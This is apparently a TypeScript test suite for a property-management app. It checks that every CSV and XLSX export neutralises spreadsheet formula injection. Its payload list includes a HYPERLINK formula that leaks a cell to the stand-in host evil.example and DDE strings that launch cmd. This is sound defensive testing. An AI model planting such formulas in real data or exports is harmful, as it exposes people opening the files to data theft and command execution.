import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ENTITIES } from '../../contract/entities.ts';
import type { EntityDeclaration } from '../../contract/entity.ts';
import { entityBody, sampleRefs } from '../api/entitySamples.ts';
import { ADMIN, API, setupApp, uid, type TestApp } from '../api/helpers.ts';
import { rows } from './db.ts';
import { collectRoutes, type Route } from './routes.ts';

/**
 * CSV formula injection: no export of the product writes a text cell that a spreadsheet program
 * would run as a formula. The check goes over every export route of the app's own route table;
 * each route needs a fixture below that puts formula-looking text into the rows it exports, so a
 * new export without one fails here until it is covered.
 */

let t: TestApp;
let admin: string;
let exportRoutes: Route[];

beforeAll(async () => {
  t = await setupApp();
  admin = await t.login(ADMIN.email, ADMIN.password);
  const { routes } = await collectRoutes(t);
  exportRoutes = routes.filter((r) => r.method === 'GET' && /export/i.test(r.path));
});
afterAll(() => t?.close());

/** What Excel, LibreOffice and Google Sheets take for the start of a formula (OWASP's list). */
const DANGEROUS_START = /^[=+\-@\t\r]/;

/** Text a resident or an employee could type (or a file import could bring) into a name field. */
const PAYLOADS = {
  hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"Докладніше")',
  dde: "@SUM(1+1)*cmd|' /C calc'!A0",
  plus: "+1+cmd|' /C notepad'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
};

/** Formula-looking text in the rows each export writes; returns the values that must come back neutralised. */
const FIXTURES: Record<string, (tag: string) => Promise<string[]>> = {
  [`GET ${API}/members/export`]: async (tag) => {
    const digits = String(Math.floor(Math.random() * 1e7)).padStart(7, '0');
    const typed = [
      { name: PAYLOADS.hyperlink, note: `${PAYLOADS.minus} ${tag}`, phone: `067 ${digits}` },
      { name: PAYLOADS.dde, note: '' },
      { name: PAYLOADS.plus, note: '' },
      { name: `Табуляція ${tag}`, note: '' },
      { name: `Повернення ${tag}`, note: '' },
    ];
    for (const body of typed) {
      const res = await t.call('POST', `${API}/members`, { token: admin, body });
      expect(res.statusCode, res.body).toBe(200);
    }
    // Tabs and carriage returns are trimmed from typed text, but an older row or another client may hold them.
    await t.db.execute(sql`update members set name = ${PAYLOADS.tab} where name = ${`Табуляція ${tag}`}`);
    await t.db.execute(sql`update members set name = ${PAYLOADS.cr} where name = ${`Повернення ${tag}`}`);
    // A phone number stays whole and readable: «'+380…».
    return [PAYLOADS.hyperlink, PAYLOADS.dde, PAYLOADS.plus, PAYLOADS.tab, PAYLOADS.cr, `${PAYLOADS.minus} ${tag}`, `+38067${digits}`];
  },
  [`GET ${API}/staff/export`]: async (tag) => {
    const roleName = `${PAYLOADS.plus} ${tag}`;
    const role = await t.call('POST', `${API}/staff_role`, { token: admin, body: { name: roleName, permissions: {} } });
    expect(role.statusCode, role.body).toBe(200);
    const complexName = `${PAYLOADS.minus} ${tag}`;
    const complex = await t.call('POST', `${API}/complexes`, {
      token: admin,
      body: { name: complexName, city: 'Київ', address: 'вул. Тестова, 1', description: '' },
    });
    expect(complex.statusCode, complex.body).toBe(200);
    for (const name of [PAYLOADS.hyperlink, PAYLOADS.dde]) {
      const staff = await t.call('POST', `${API}/staff`, {
        token: admin,
        body: { name, email: `formula-${uid()}@test.ua`, phone: '+380 67 123 45 67', role_id: role.json().id, complex_ids: [complex.json().main_data.id] },
      });
      expect(staff.statusCode, staff.body).toBe(200);
    }
    return [PAYLOADS.hyperlink, PAYLOADS.dde, roleName, complexName, '+380 67 123 45 67'];
  },
};

/** Every declared entity: formula-looking text in each of its text inputs that the export shows. */
for (const e of ENTITIES as readonly EntityDeclaration[]) {
  FIXTURES[`GET ${API}${e.path}/export`] = async (tag) => {
    // A house of a complex where someone lives: samples may refer to a member or a unit of that complex.
    const [side] = await rows<{ house_id: number; complex_id: number; member_id: number; realty_id: number }>(
      t,
      sql`select h.id as house_id, h.complex_id, r.member_id, r.realty_id
        from houses h join realty u on u.house_id = h.id join residents r on r.realty_id = u.id
        where h.organization_id = ${t.organizationId} and h.complex_id is not null order by h.id limit 1`,
    );
    // A field with a declared pattern (a plate) never holds free text, formulas included.
    const texts = Object.entries(e.fields).filter(
      ([, f]) => (f.type === 'text' || f.type === 'multiline') && f.pattern === undefined && f.input !== false && (f.export ?? f.list !== false),
    );
    expect(texts.length, `${e.name} exports a text input`).toBeGreaterThan(0);
    const payloads = [PAYLOADS.hyperlink, PAYLOADS.dde, PAYLOADS.plus, PAYLOADS.minus];
    // A short field (a unit number) takes the start of the payload: it still begins like a formula.
    const typed = texts.map(([key, f], i) => {
      const payload = payloads[i % payloads.length];
      return [key, `${f.max === undefined ? payload : payload.slice(0, Math.max(2, f.max - tag.length - 1))} ${tag}`] as const;
    });
    const refs = await sampleRefs(t, admin, { houseId: side.house_id, complexId: side.complex_id });
    const body = { ...(e.sample({ houseId: side.house_id, complexId: side.complex_id, unique: tag, refs }) as object), ...Object.fromEntries(typed) };
    const res = await t.call('POST', `${API}${e.path}`, { token: admin, ...(await entityBody(e, body)) });
    expect(res.statusCode, res.body).toBe(200);
    return typed.map(([, v]) => v);
  };
}

async function download(r: Route, format: 'csv' | 'xlsx') {
  const res = await t.call('GET', `${r.path}?format=${format}&per_page=1000`, { token: admin });
  expect(res.statusCode, `${r.key} ${format}: ${res.body.slice(0, 200)}`).toBe(200);
  return res;
}

describe('CSV formula injection', () => {
  it('finds the export routes in the route table, and each has a fixture with formula-looking text', () => {
    expect(exportRoutes.map((r) => r.key).sort()).toEqual(expect.arrayContaining([`GET ${API}/members/export`, `GET ${API}/staff/export`]));
    expect(exportRoutes.filter((r) => !FIXTURES[r.key]).map((r) => r.key)).toEqual([]);
  });

  it('no CSV export writes a cell that starts a formula; such text gets a leading quote and stays whole', async () => {
    const wrong: string[] = [];
    for (const r of exportRoutes) {
      const expected = await FIXTURES[r.key](uid());
      const res = await download(r, 'csv');
      const cells = (parse(res.body.replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true }) as string[][]).flat();
      // A negative number (a parking floor, -1) is a number cell, not a formula.
      for (const cell of cells) if (DANGEROUS_START.test(cell) && !/^-\d+(\.\d+)?$/.test(cell)) wrong.push(`${r.key}: ${JSON.stringify(cell)}`);
      for (const value of expected)
        if (!cells.includes(`'${value}`)) wrong.push(`${r.key}: ${JSON.stringify(value)} is not in the file as '${JSON.stringify(value)}`);
      // Ordinary text is left alone.
      expect(
        cells.some((c) => c.startsWith("'") && !DANGEROUS_START.test(c.slice(1))),
        r.key,
      ).toBe(false);
    }
    expect(wrong).toEqual([]);
  });

  it('every XLSX export writes such text as plain text cells, never as formulas', async () => {
    const wrong: string[] = [];
    for (const r of exportRoutes) {
      const expected = await FIXTURES[r.key](uid());
      const res = await download(r, 'xlsx');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const texts: string[] = [];
      book.worksheets[0].eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula) wrong.push(`${r.key}: formula cell ${cell.address}`);
          if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
        }),
      );
      // Text cells hold the value as typed (XML reads a carriage return as a line feed): a text
      // cell is never evaluated, so no quote is added.
      for (const value of expected) if (!texts.includes(value.replace(/\r/g, '\n'))) wrong.push(`${r.key}: ${JSON.stringify(value)} is not a text cell`);
    }
    expect(wrong).toEqual([]);
  });
});
